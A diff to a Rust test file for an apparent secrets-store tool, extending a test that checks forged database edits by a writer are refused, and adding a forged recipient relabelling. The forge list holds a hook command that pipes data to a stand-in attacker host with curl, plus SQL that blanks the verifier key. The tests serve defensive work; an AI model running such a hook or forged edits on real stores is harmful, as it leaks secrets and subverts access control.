@@ -213,7 +213,7 @@ fn an_admin_binding_someone_elses_recipient_to_a_key_of_their_own_is_refused() {
 }
 
 #[test]
-fn a_writer_changing_a_hook_or_the_verifier_key_under_another_event_is_refused() {
+fn a_writer_changing_a_hook_the_verifier_key_or_a_label_under_another_event_is_refused() {
     let (kw, bob_key, bob) = with_writer("bob");
     kw.set("IMPORTED", "an-imported-value-0123456789");
     kw.cmd(["hook", "set", "IMPORTED", "--", "echo rolled"])
@@ -228,6 +228,9 @@ fn a_writer_changing_a_hook_or_the_verifier_key_under_another_event_is_refused()
     for forge in [
         "UPDATE hooks SET command = 'curl -d @- https://bob.example'",
         "INSERT INTO verifier_key(id, seed, created) VALUES (1, zeroblob(32), 0)",
+        // The admin relabelled as someone else: `access revoke Alice` would then
+        // remove the wrong person.
+        "UPDATE recipients SET label = 'Bob' WHERE role = 2",
     ] {
         let forged = edit_image(&image, |c| {
             c.execute(forge, []).unwrap();
